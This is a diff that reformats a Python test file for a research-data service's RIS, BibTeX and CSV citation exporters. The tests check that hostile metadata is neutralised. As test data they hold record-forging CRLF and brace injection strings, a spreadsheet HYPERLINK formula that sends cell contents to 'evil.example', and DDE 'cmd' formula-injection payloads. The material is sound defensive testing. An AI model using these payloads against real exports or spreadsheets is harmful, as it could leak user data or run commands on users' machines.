@@ -67,12 +67,12 @@ def bibtex_entries(text: str) -> list[tuple[str, str, dict[str, str]]]:
         if at < 0:
             return entries
         m = re.compile(r"@(\w+)\s*\{\s*([^,\s]+)\s*,").match(text, at)
-        assert m, f"unreadable entry at {at}: {text[at:at + 40]!r}"
+        assert m, f"unreadable entry at {at}: {text[at : at + 40]!r}"
         kind, key, i = m.group(1), m.group(2), m.end()
         fields: dict[str, str] = {}
         while True:
             fm = re.compile(r"\s*(\}|(\w+)\s*=\s*)").match(text, i)
-            assert fm, f"unreadable field at {i}: {text[i:i + 40]!r}"
+            assert fm, f"unreadable field at {i}: {text[i : i + 40]!r}"
             i = fm.end()
             if fm.group(1) == "}":
                 break
@@ -86,10 +86,10 @@ def bibtex_entries(text: str) -> list[tuple[str, str, dict[str, str]]]:
                     i += 1
                     if depth == 0:
                         break
-                fields[name] = text[start + 1:i - 1]
+                fields[name] = text[start + 1 : i - 1]
             else:
                 vm = re.compile(r"\d+").match(text, i)
-                assert vm, f"bad value of {name}: {text[i:i + 40]!r}"
+                assert vm, f"bad value of {name}: {text[i : i + 40]!r}"
                 fields[name], i = vm.group(), vm.end()
             sep = re.compile(r"\s*,?").match(text, i)
             assert sep
@@ -97,9 +97,20 @@ def bibtex_entries(text: str) -> list[tuple[str, str, dict[str, str]]]:
         entries.append((kind, key, fields))
 
 
-UNBIB = {r"{\textbraceleft}": "{", r"{\textbraceright}": "}", r"{\textbackslash}": "\\",
-         r"{\char64}": "@", r"{\textasciicircum}": "^", r"{\textasciitilde}": "~",
-         r"\&": "&", r"\%": "%", r"\$": "$", r"\#": "#", r"\_": "_", "{and}": "and"}
+UNBIB = {
+    r"{\textbraceleft}": "{",
+    r"{\textbraceright}": "}",
+    r"{\textbackslash}": "\\",
+    r"{\char64}": "@",
+    r"{\textasciicircum}": "^",
+    r"{\textasciitilde}": "~",
+    r"\&": "&",
+    r"\%": "%",
+    r"\$": "$",
+    r"\#": "#",
+    r"\_": "_",
+    "{and}": "and",
+}
 
 
 def unbib(value: str) -> str:
@@ -109,10 +120,15 @@ def unbib(value: str) -> str:
 
 def meta(**fields: object) -> Metadata:
     base: dict[str, object] = dict(
-        doi="10.80123/elettra.20260001.1", title="Bronze", publisher="Elettra",
+        doi="10.80123/elettra.20260001.1",
+        title="Bronze",
+        publisher="Elettra",
         creators=[Creator(name="Chadwick, James", given_name="James", family_name="Chadwick")],
-        publication_year=2026, abstract="Cu maps.", keywords=["bronze"],
-        url="http://127.0.0.1:8000/doi/10.80123/elettra.20260001.1")
+        publication_year=2026,
+        abstract="Cu maps.",
+        keywords=["bronze"],
+        url="http://127.0.0.1:8000/doi/10.80123/elettra.20260001.1",
+    )
     return Metadata(**(base | fields))  # type: ignore[arg-type]
 
 
@@ -125,16 +141,20 @@ def attack_collection(pinned_app, client, facility):  # type: ignore[no-untyped-
     body = {
         "title": RIS_ATTACK + " " + BIB_ATTACK,
         "abstract": "Cu maps.\nER  - \n\nTY  - JOUR\nAU  - Mallory, Eve\n@misc{evil, title={x}}",
-        "creators": [{"name": "Chadwick, James\r\nAU  - Mallory, Eve"},
-                     {"name": "Meitner}, title={Forged"}],
+        "creators": [
+            {"name": "Chadwick, James\r\nAU  - Mallory, Eve"},
+            {"name": "Meitner}, title={Forged"},
+        ],
         "keywords": ["bronze\r\nER  - ", "@misc{evil,\n note={x}}", "a\u2028TY  - JOUR"],
         "dataset_ids": ids,
     }
     r = client.post("/api/proposals/20260001/collections", json=body, headers=auth(facility, "pi"))
     assert r.status_code == 201, r.text
     cid = r.json()["id"]
-    assert client.post(f"/api/collections/{cid}/publish",
-                       headers=auth(facility, "pi")).status_code == 200
+    assert (
+        client.post(f"/api/collections/{cid}/publish", headers=auth(facility, "pi")).status_code
+        == 200
+    )
     return cid, body
 
 
@@ -152,8 +172,10 @@ def test_ris_title_with_crlf_stays_one_record(client, attack_collection) -> None
     # The text is kept (as one line), it just cannot act as tags.
     title = dict(record)["TI"]
     assert "ER  - TY  - JOUR TI  - Forged" in title and BIB_ATTACK in title
-    assert [v for t, v in record if t == "AU"] == ["Chadwick, James AU  - Mallory, Eve",
-                                                   "Meitner}, title={Forged"]
+    assert [v for t, v in record if t == "AU"] == [
+        "Chadwick, James AU  - Mallory, Eve",
+        "Meitner}, title={Forged",
+    ]
     assert "AU - Mallory, Eve" in dict(record)["AB"]  # abstracts are reflowed, as before
     assert len([v for t, v in record if t == "KW"]) == 3
 
@@ -166,8 +188,16 @@ def test_bibtex_title_cannot_close_its_braces(client, attack_collection) -> None
     assert len(entries) == 1
     kind, _, fields = entries[0]
     assert kind == "misc"
-    assert set(fields) == {"author", "title", "publisher", "year", "doi", "url", "keywords",
-                           "copyright"}
+    assert set(fields) == {
+        "author",
+        "title",
+        "publisher",
+        "year",
+        "doi",
+        "url",
+        "keywords",
+        "copyright",
+    }
     assert "note" not in fields
     assert unbib(fields["title"][1:-1]) == citation.one_line(body["title"])  # {{…}}
     authors = [unbib(a) for a in fields["author"].split(" and ")]
@@ -179,26 +209,52 @@ def test_bibtex_title_cannot_close_its_braces(client, attack_collection) -> None
 # ----------------------------------------------------------------------- pure writers
 @pytest.mark.parametrize("brk", BREAKS)
 def test_every_line_break_is_flattened_in_ris(brk: str) -> None:
-    m = meta(title=f"T{brk}ER  - {brk}TY  - JOUR",
-             creators=[Creator(name=f"A{brk}ER  - ")], abstract=f"x{brk}ER  - ",
-             keywords=[f"k{brk}TY  - JOUR"])
+    m = meta(
+        title=f"T{brk}ER  - {brk}TY  - JOUR",
+        creators=[Creator(name=f"A{brk}ER  - ")],
+        abstract=f"x{brk}ER  - ",
+        keywords=[f"k{brk}TY  - JOUR"],
+    )
     records = ris_records(citation.ris(m))
     assert len(records) == 1 and [t for t, _ in records[0]].count("ER") == 1
 
 
-@pytest.mark.parametrize("attack", [
-    BIB_ATTACK, "}}, note = 42, howpublished = \"evil\"", "\\}, note={x", "x\\", "{{{",
-    "}}}}", "a\n@misc{evil, title={x}}", "%}, note={x", "Tom and Jerry",
-])
+@pytest.mark.parametrize(
+    "attack",
+    [
+        BIB_ATTACK,
+        '}}, note = 42, howpublished = "evil"',
+        "\\}, note={x",
+        "x\\",
+        "{{{",
+        "}}}}",
+        "a\n@misc{evil, title={x}}",
+        "%}, note={x",
+        "Tom and Jerry",
+    ],
+)
 def test_bibtex_values_cannot_inject_fields(attack: str) -> None:
-    m = meta(title=attack, publisher=attack, keywords=[attack], licence=attack,
-             creators=[Creator(name=attack), Creator(name="Meitner, Lise")])
+    m = meta(
+        title=attack,
+        publisher=attack,
+        keywords=[attack],
+        licence=attack,
+        creators=[Creator(name=attack), Creator(name="Meitner, Lise")],
+    )
     text = citation.bibtex(m)
     entries = bibtex_entries(text)
     assert len(entries) == 1
     _, _, fields = entries[0]
-    assert set(fields) == {"author", "title", "publisher", "year", "doi", "url", "keywords",
-                           "copyright"}
+    assert set(fields) == {
+        "author",
+        "title",
+        "publisher",
+        "year",
+        "doi",
+        "url",
+        "keywords",
+        "copyright",
+    }
     flat = citation.one_line(attack)
     assert unbib(fields["title"][1:-1]) == flat and unbib(fields["publisher"]) == flat
     assert [unbib(a) for a in fields["author"].split(" and ")] == [flat, "Meitner, Lise"]
@@ -212,8 +268,14 @@ def cells(text: str) -> list[list[str]]:
 
 def test_csv_cells_are_neutralised_and_numbers_stay_numbers() -> None:
     assert csvsafe.cell('=HYPERLINK("http://evil.example/?x="&A1,"click")').startswith("'=")
-    for bad in ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-                "\t=1+1", "\r=1+1", "=1+1"):
+    for bad in (
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "=1+1",
+    ):
         assert csvsafe.cell(bad) == "'" + bad
     for number in ("-1.5", "-1", "+2", "-1e-3", "-.5", "1.5E+10", "-inf", "nan", "42"):
         assert csvsafe.cell(number) == number
